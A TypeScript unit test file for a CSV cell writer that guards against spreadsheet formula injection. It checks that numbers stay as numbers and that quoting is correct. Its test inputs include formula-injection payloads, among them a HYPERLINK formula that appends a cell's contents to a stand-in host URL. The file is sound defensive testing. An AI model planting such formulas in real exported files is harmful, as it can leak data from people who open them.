/** The one CSV cell writer (server/lib/csv.ts): OWASP's rule against formula injection, numbers
 * kept as numbers, the usual quoting. */
import { csvCell, csvLine } from '../../server/lib/csv';

describe('csvCell', () => {
  it('puts a single quote before a text that starts a formula: = + - @ tab carriage return', () => {
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('=HYPERLINK("http://x"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://x""&A1,""Click"")"`);
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
  });

  it('keeps numbers, plain decimal texts, times and other texts as they are', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-1e-7)).toBe('-1e-7');
    expect(csvCell(0)).toBe('0');
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('-3.25')).toBe('-3.25');
    expect(csvCell('2026-01-01T12:00:00.000Z')).toBe('2026-01-01T12:00:00.000Z');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('quotes what holds a quote, a comma or a line end; objects as JSON text', () => {
    expect(csvCell('Lot "7", grün')).toBe('"Lot ""7"", grün"');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell({ a: [1, '-x'] })).toBe('"{""a"":[1,""-x""]}"');
    expect(csvLine([1, '=x', null, 'y'])).toBe("1,'=x,,y\n");
  });
});
